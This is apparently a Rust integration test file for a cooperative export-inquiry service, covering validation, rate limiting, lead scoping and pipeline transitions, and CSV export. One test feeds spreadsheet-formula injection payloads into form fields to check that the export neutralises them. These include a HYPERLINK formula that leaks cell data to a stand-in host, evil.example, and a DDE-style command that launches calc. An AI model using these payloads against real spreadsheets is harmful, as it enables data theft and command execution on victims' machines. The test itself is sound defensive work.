//! Export inquiries against real SQLite and real PostgreSQL: what a buyer sends is checked and
//! stored, bots and floods are turned away, each cooperative sees only its own leads, leads move
//! only along the pipeline, new ones are pushed live, and the CSV export survives commas, quotes,
//! newlines and Vietnamese and never hands a spreadsheet a formula.
mod common;

use app::db::{Db, Sql};
use app::drafts;
use app::error::{AppError, ConflictCode, FieldError};
use app::inquiries::model::{InquiryForm, LeadStatus};
use app::inquiries::service::{self, LeadRange, Scope, Submitted};
use app::live::hub::Hub;
use app::live::model::{Event, ServerFrame, Topic};
use common::scalar;

const NOW: i64 = 1_800_000_000;
const TODAY: &str = "2027-01-15";

async fn coop_id(db: &Db, slug: &str) -> i64 {
    let mut sql = Sql::new("SELECT id FROM cooperatives WHERE slug = ");
    sql.bind(slug.to_owned());
    scalar(db, sql).await
}

async fn user(db: &Db, email: &str) -> i64 {
    let mut sql = Sql::new(
        "INSERT INTO users (email, display_name, password_hash, role, created_at, updated_at) VALUES (",
    );
    sql.bind(email.to_owned()).push(", ").bind(email.to_owned()).push(", 'x', 'shopper', ");
    sql.bind(NOW).push(", ").bind(NOW).push(") RETURNING id");
    scalar(db, sql).await
}

async fn a_product_of(db: &Db, coop: i64) -> String {
    let mut sql = Sql::new("SELECT slug FROM products WHERE status = 'published' AND cooperative_id = ");
    sql.bind(coop).push(" ORDER BY id LIMIT 1");
    scalar(db, sql).await
}

fn form(booth: &str, company: &str) -> InquiryForm {
    InquiryForm {
        booth: booth.into(),
        company: company.into(),
        country: "United Kingdom".into(),
        contact_name: "Amelia Hart".into(),
        email: "amelia@camden.example".into(),
        phone: "+44 20 7946 0000".into(),
        quantity: "2.000".into(),
        quantity_unit: "kg".into(),
        packaging: "Túi 100 g, thùng 50 túi".into(),
        incoterm: "FOB".into(),
        target_date: "2027-03-01".into(),
        samples: Some("on".into()),
        message: "We would like to import green tea for our London shops.".into(),
        ..Default::default()
    }
}

async fn submit(db: &Db, hub: &Hub, form: &InquiryForm, ip: &str) -> Result<Submitted, AppError> {
    service::submit(db, hub, form, ip, NOW, TODAY).await
}

async fn stored(db: &Db, hub: &Hub, form: &InquiryForm, ip: &str) -> i64 {
    match submit(db, hub, form, ip).await {
        Ok(Submitted::Stored(id)) => id,
        other => panic!("expected a stored inquiry, got {other:?}"),
    }
}

async fn inquiry_count(db: &Db) -> i64 {
    scalar(db, Sql::new("SELECT COUNT(*) FROM inquiries")).await
}

async fn an_inquiry_is_stored_pushed_live_and_seen_only_by_its_cooperative(db: Db) {
    app::seed::seed(&db).await.expect("seed");
    let hub = Hub::new();
    let binh_minh = coop_id(&db, "binh-minh").await;
    let hong_phat = coop_id(&db, "hong-phat").await;
    let mut staff = hub.connect();
    hub.subscribe(staff.id, Topic::Coop(binh_minh));
    let mut other = hub.connect();
    hub.subscribe(other.id, Topic::Coop(hong_phat));
    let mut admin = hub.connect();
    hub.subscribe(admin.id, Topic::Admin);

    let mut f = form("binh-minh", "Camden Tea, Ltd \"London\"");
    f.product = a_product_of(&db, binh_minh).await;
    let id = stored(&db, &hub, &f, "203.0.113.7").await;

    // Pushed to the cooperative and the department, not to another cooperative.
    let frame: ServerFrame =
        serde_json::from_str(&staff.outbox.try_recv().expect("staff notified")).expect("frame");
    let ServerFrame::Event(Event::InquiryReceived { inquiry }) = frame else { panic!("{frame:?}") };
    assert_eq!((inquiry.id, inquiry.cooperative_id, inquiry.quantity), (id, binh_minh, 2000));
    assert_eq!(inquiry.company, "Camden Tea, Ltd \"London\"");
    assert!(inquiry.product.is_some());
    assert!(admin.outbox.try_recv().is_ok(), "the admin feed hears of it");
    assert!(other.outbox.try_recv().is_err(), "another cooperative hears nothing");

    let leads = service::list(&db, Scope::Cooperative(binh_minh), None).await.expect("list");
    assert_eq!(leads.len(), 1);
    assert_eq!(leads[0].status, LeadStatus::New);
    assert!(service::list(&db, Scope::Cooperative(hong_phat), None).await.expect("list").is_empty());
    assert_eq!(service::list(&db, Scope::Province, None).await.expect("all").len(), 1);
    let lead = service::lead(&db, Scope::Cooperative(binh_minh), id).await.expect("lead");
    assert_eq!(lead.email, "amelia@camden.example");
    assert!(lead.samples);
    assert_eq!(lead.target_date.as_deref(), Some("2027-03-01"));
    assert_eq!(lead.events.len(), 1, "the arrival is the first event");
    assert_eq!(service::lead(&db, Scope::Cooperative(hong_phat), id).await, Err(AppError::NotFound));

    // The relay rebuilds the same event from the id alone.
    let rebuilt = service::notice_event(&db, id).await.expect("read").expect("found");
    assert_eq!(rebuilt, Event::InquiryReceived { inquiry });
}

async fn bots_floods_and_bad_forms_are_turned_away(db: Db) {
    app::seed::seed(&db).await.expect("seed");
    let hub = Hub::new();
    let hong_phat = coop_id(&db, "hong-phat").await;

    // The honeypot: answered like a success, stored nowhere, pushed nowhere.
    let mut watcher = hub.connect();
    hub.subscribe(watcher.id, Topic::Admin);
    let mut bot = form("binh-minh", "Spam Inc");
    bot.website = "http://spam.example".into();
    assert_eq!(submit(&db, &hub, &bot, "198.51.100.1").await, Ok(Submitted::Discarded));
    assert_eq!(inquiry_count(&db).await, 0);
    assert!(watcher.outbox.try_recv().is_err());

    // Field errors come back together and store nothing.
    let mut bad = form("binh-minh", "");
    bad.email = "amelia-at-camden".into();
    bad.incoterm = "FAS".into();
    bad.message = "hi".into();
    let Err(AppError::Validation(fields)) = submit(&db, &hub, &bad, "198.51.100.2").await else {
        panic!("refused")
    };
    let named: Vec<&str> = fields.iter().map(|f| f.field.as_str()).collect();
    assert_eq!(named, vec!["company", "email", "incoterm", "message"]);
    // A product of another cooperative is not this booth's to offer.
    let mut wrong = form("binh-minh", "Camden Tea");
    wrong.product = a_product_of(&db, hong_phat).await;
    let Err(AppError::Validation(fields)) = submit(&db, &hub, &wrong, "198.51.100.2").await else { panic!() };
    assert_eq!(fields[0].field, "product");
    assert_eq!(
        submit(&db, &hub, &form("no-such-booth", "Camden"), "198.51.100.2").await,
        Err(AppError::NotFound)
    );
    assert_eq!(inquiry_count(&db).await, 0);

    // Five an hour from one address; the sixth is refused with the wait, other addresses go on.
    for i in 0..5 {
        stored(&db, &hub, &form("binh-minh", &format!("Buyer {i}")), "198.51.100.9").await;
    }
    let refused = submit(&db, &hub, &form("binh-minh", "Buyer 6"), "198.51.100.9").await;
    assert_eq!(refused, Err(AppError::TooManyAttempts(3600)));
    stored(&db, &hub, &form("binh-minh", "Another buyer"), "198.51.100.10").await;
    assert_eq!(inquiry_count(&db).await, 6);
    // An hour later the address may send again.
    assert!(matches!(
        service::submit(&db, &hub, &form("binh-minh", "Buyer 7"), "198.51.100.9", NOW + 3601, TODAY).await,
        Ok(Submitted::Stored(_))
    ));
}

async fn leads_move_only_along_the_pipeline(db: Db) {
    app::seed::seed(&db).await.expect("seed");
    let hub = Hub::new();
    let binh_minh = coop_id(&db, "binh-minh").await;
    let hong_phat = coop_id(&db, "hong-phat").await;
    let member = user(&db, "staff@binhminh.test").await;
    // Every (from, to) pair, each on a lead of its own brought to `from` first.
    let path = |to: LeadStatus| -> Vec<LeadStatus> {
        match to {
            LeadStatus::New => vec![],
            LeadStatus::Replied => vec![LeadStatus::Replied],
            LeadStatus::Negotiating => vec![LeadStatus::Replied, LeadStatus::Negotiating],
            LeadStatus::Won => vec![LeadStatus::Replied, LeadStatus::Negotiating, LeadStatus::Won],
            LeadStatus::Lost => vec![LeadStatus::Lost],
        }
    };
    let mut allowed = 0;
    let mut n = 0;
    for from in LeadStatus::ALL {
        for to in LeadStatus::ALL {
            n += 1;
            let id =
                stored(&db, &hub, &form("binh-minh", &format!("Buyer {n}")), &format!("10.0.0.{n}")).await;
            for step in path(from) {
                service::transition(&db, binh_minh, member, id, step, "", NOW).await.expect("set up");
            }
            let result =
                service::transition(&db, binh_minh, member, id, to, "gọi điện, hẹn gửi mẫu", NOW + 1).await;
            let now =
                service::lead(&db, Scope::Cooperative(binh_minh), id).await.expect("lead").summary.status;
            if from.can_move(to) {
                assert_eq!(result, Ok(()), "{from:?} → {to:?}");
                assert_eq!(now, to);
                allowed += 1;
            } else {
                assert_eq!(
                    result,
                    Err(AppError::Conflict(ConflictCode::LeadTransition)),
                    "{from:?} → {to:?}"
                );
                assert_eq!(now, from, "a refused move changes nothing");
            }
        }
    }
    assert_eq!(allowed, 6);
    // Another cooperative cannot move or annotate it: it is not there for them.
    let id = stored(&db, &hub, &form("binh-minh", "Kept"), "10.0.1.1").await;
    assert_eq!(
        service::transition(&db, hong_phat, member, id, LeadStatus::Replied, "", NOW).await,
        Err(AppError::NotFound)
    );
    assert_eq!(service::add_note(&db, hong_phat, member, id, "x", NOW).await, Err(AppError::NotFound));
    // Notes without a move, kept in order with the moves.
    service::add_note(&db, binh_minh, member, id, "Khách hỏi giá CIF Felixstowe", NOW + 5)
        .await
        .expect("note");
    service::transition(&db, binh_minh, member, id, LeadStatus::Replied, "Đã gửi báo giá", NOW + 6)
        .await
        .expect("move");
    let lead = service::lead(&db, Scope::Cooperative(binh_minh), id).await.expect("lead");
    let history: Vec<(Option<LeadStatus>, &str)> =
        lead.events.iter().map(|e| (e.to, e.note.as_str())).collect();
    assert_eq!(
        history,
        vec![
            (Some(LeadStatus::New), ""),
            (None, "Khách hỏi giá CIF Felixstowe"),
            (Some(LeadStatus::Replied), "Đã gửi báo giá"),
        ]
    );
    assert!(matches!(
        service::add_note(&db, binh_minh, member, id, "   ", NOW).await,
        Err(AppError::Validation(_))
    ));
    // The status filter.
    let replied =
        service::list(&db, Scope::Cooperative(binh_minh), Some(LeadStatus::Replied)).await.expect("list");
    assert!(!replied.is_empty() && replied.iter().all(|l| l.status == LeadStatus::Replied));
}

/// The whole leads CSV of `scope`, as a download receives it.
async fn leads_csv(db: &Db, scope: Scope) -> Vec<u8> {
    let mut rx = service::csv(db.clone(), scope, LeadRange::default());
    let mut all = Vec::new();
    while let Some(chunk) = rx.recv().await {
        all.extend_from_slice(&chunk);
    }
    all
}

async fn the_csv_export_keeps_commas_quotes_newlines_and_vietnamese(db: Db) {
    app::seed::seed(&db).await.expect("seed");
    let hub = Hub::new();
    let binh_minh = coop_id(&db, "binh-minh").await;
    let mut f = form("binh-minh", "Công ty TNHH Chè \"Sạch\", Hà Nội");
    f.message = "Dòng một, có dấu phẩy\nDòng hai: \"trích dẫn\"".into();
    stored(&db, &hub, &f, "10.1.1.1").await;
    stored(&db, &hub, &form("hong-phat", "Other coop's buyer"), "10.1.1.2").await;
    let bytes = leads_csv(&db, Scope::Cooperative(binh_minh)).await;
    assert_eq!(&bytes[..3], b"\xEF\xBB\xBF", "a byte-order mark for spreadsheet programs");
    let mut reader = csv::Reader::from_reader(&bytes[3..]);
    let headers = reader.headers().expect("headers").clone();
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("record")).collect();
    assert_eq!(rows.len(), 1, "only this cooperative's leads");
    let get = |name: &str| {
        rows[0].get(headers.iter().position(|h| h == name).expect(name)).expect("cell").to_owned()
    };
    assert_eq!(get("company"), "Công ty TNHH Chè \"Sạch\", Hà Nội");
    assert_eq!(get("message"), "Dòng một, có dấu phẩy\nDòng hai: \"trích dẫn\"");
    assert_eq!(get("quantity"), "2000");
    assert_eq!(get("samples"), "yes");
    let text = String::from_utf8(bytes).expect("UTF-8");
    assert!(
        text.contains("\"Công ty TNHH Chè \"\"Sạch\"\", Hà Nội\""),
        "quotes doubled inside a quoted cell"
    );
    let all = leads_csv(&db, Scope::Province).await;
    assert_eq!(csv::Reader::from_reader(&all[3..]).records().count(), 2, "the department gets every lead");
}

/// A buyer's text cannot become a formula in the cooperative's spreadsheet: the leads CSV
/// neutralises every text cell that starts one, on the cooperative's and the department's file.
async fn the_leads_csv_never_hands_a_spreadsheet_a_formula(db: Db) {
    app::seed::seed(&db).await.expect("seed");
    let hub = Hub::new();
    let binh_minh = coop_id(&db, "binh-minh").await;
    let hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Xem báo giá\")";
    let mut f = form("binh-minh", hyperlink);
    f.message = "-2+3+cmd|' /C calc'!A0".into();
    f.packaging = "@SUM(A1:A9)".into();
    stored(&db, &hub, &f, "10.1.1.1").await;
    for scope in [Scope::Cooperative(binh_minh), Scope::Province] {
        let bytes = leads_csv(&db, scope).await;
        let mut reader = csv::Reader::from_reader(&bytes[3..]);
        let headers = reader.headers().expect("headers").clone();
        let row = reader.records().next().expect("one lead").expect("record");
        let get = |name: &str| row.get(headers.iter().position(|h| h == name).expect(name)).expect("cell");
        assert_eq!(get("company"), format!("'{hyperlink}"));
        assert_eq!(get("message"), "'-2+3+cmd|' /C calc'!A0");
        assert_eq!(get("packaging"), "'@SUM(A1:A9)");
        assert_eq!(get("quantity"), "2000", "our numbers stay numbers");
        assert_eq!(get("country"), "United Kingdom");
    }
}

/// The drafts of `ip`: how many, and their bodies' total length in bytes.
async fn drafts_of(db: &Db, ip: &str) -> (i64, i64) {
    let mut sql = Sql::new("SELECT COUNT(*), COALESCE(SUM(LENGTH(body)), 0) FROM form_drafts WHERE ip = ");
    sql.bind(ip.to_owned());
    sql.query_as().expect("query").fetch_one(&db.pool).await.expect("drafts")
}

/// `f` as the browser posts it to the send server function, refused with `errors`, as the form
/// layer keeps it (`server/src/forms.rs`).
fn refused(f: &InquiryForm, errors: &[FieldError]) -> drafts::Posted {
    use leptos::server_fn::error::ServerFnUrlError;
    let fields = [
        ("booth", &f.booth),
        ("product", &f.product),
        ("company", &f.company),
        ("country", &f.country),
        ("contact_name", &f.contact_name),
        ("email", &f.email),
        ("phone", &f.phone),
        ("quantity", &f.quantity),
        ("quantity_unit", &f.quantity_unit),
        ("packaging", &f.packaging),
        ("incoterm", &f.incoterm),
        ("target_date", &f.target_date),
        ("message", &f.message),
        ("website", &f.website),
    ]
    .map(|(name, value)| (format!("form[{name}]"), value.clone()));
    let url = ServerFnUrlError::new("/api/inquiries/send", AppError::Validation(errors.to_vec()))
        .to_url("http://shop.test/booths/binh-minh/inquiry")
        .expect("url");
    let refusal = url.query_pairs().find(|(k, _)| k == "__err").map(|(_, v)| v.into_owned());
    drafts::Posted::kept("/api/inquiries/send", fields, refusal)
}

/// One address refused forty times with 0.9 MB forms keeps a handful of small drafts, and
/// another address still gets its own.
async fn refused_inquiries_keep_bounded_drafts(db: Db) {
    app::seed::seed(&db).await.expect("seed");
    let mut huge = form("binh-minh", &"C".repeat(300_000));
    huge.message = "Tôi muốn mua chè. ".repeat(600_000 / 20);
    huge.packaging = "x".repeat(300_000);
    let errors = vec![FieldError::new("message", app::error::FieldCode::TooLong)];
    let posted = refused(&huge, &errors);
    let mut last = None;
    for i in 0..40 {
        last = drafts::save(&db, &posted, "203.0.113.7", NOW + i).await.expect("save");
        assert!(last.is_some(), "the latest refusal always keeps its draft");
    }
    let (rows, bytes) = drafts_of(&db, "203.0.113.7").await;
    assert_eq!(rows, drafts::PER_ADDRESS, "one address keeps at most its cap");
    assert!(bytes <= drafts::PER_ADDRESS * drafts::MAX_BODY_BYTES as i64, "{bytes} bytes for one address");

    let other = form("binh-minh", "Camden Tea");
    let token = drafts::save(&db, &refused(&other, &errors), "198.51.100.9", NOW + 41).await.expect("save");
    let token = token.expect("another address keeps its draft");
    let page = service::page(&db, "binh-minh", "", Some(&token), NOW + 42).await.expect("page");
    assert_eq!(page.form.company, "Camden Tea");
    assert_eq!(page.errors, errors);
    assert_eq!(drafts_of(&db, "198.51.100.9").await.0, 1);

    // The latest huge one comes back cut to the drafts' bound.
    let last = last.expect("token");
    let page = service::page(&db, "binh-minh", "", Some(&last), NOW + 42).await.expect("page");
    assert_eq!(page.form.company.chars().count(), drafts::MAX_VALUE_CHARS);
    assert_eq!(page.form.packaging.chars().count(), drafts::MAX_VALUE_CHARS);
    assert_eq!(page.form.message.chars().count(), drafts::MAX_VALUE_CHARS);
    assert!(page.form.message.starts_with("Tôi muốn mua chè."));

    // Another booth's page does not take this booth's draft.
    let elsewhere = service::page(&db, "hong-phat", "", Some(&token), NOW + 42).await.expect("page");
    assert_eq!((elsewhere.form.company.as_str(), elsewhere.errors.len()), ("", 0));
}

/// Expired drafts are deleted by the purge, fresh ones kept.
async fn the_purge_removes_expired_drafts(db: Db) {
    let errors = vec![FieldError::new("message", app::error::FieldCode::MessageShort)];
    let f = refused(&form("binh-minh", "Camden Tea"), &errors);
    let old = drafts::save(&db, &f, "203.0.113.7", NOW - drafts::TTL_SECS - 1).await.expect("save");
    let fresh = drafts::save(&db, &f, "203.0.113.8", NOW - 60).await.expect("save");
    assert_eq!(drafts::purge_expired(&db, NOW).await.expect("purge"), 1);
    assert_eq!(scalar::<i64>(&db, Sql::new("SELECT COUNT(*) FROM form_drafts")).await, 1);
    let load = |token: Option<String>| {
        let db = db.clone();
        async move { drafts::load(&db, &token.expect("token"), NOW).await.expect("load") }
    };
    assert!(load(old).await.is_none());
    assert_eq!(load(fresh).await, Some(f));
    assert_eq!(drafts::purge_expired(&db, NOW).await.expect("purge"), 0);
}

on_both_databases!(
    refused_inquiries_keep_bounded_drafts,
    the_purge_removes_expired_drafts,
    the_leads_csv_never_hands_a_spreadsheet_a_formula,
    an_inquiry_is_stored_pushed_live_and_seen_only_by_its_cooperative,
    bots_floods_and_bad_forms_are_turned_away,
    leads_move_only_along_the_pipeline,
    the_csv_export_keeps_commas_quotes_newlines_and_vietnamese,
);
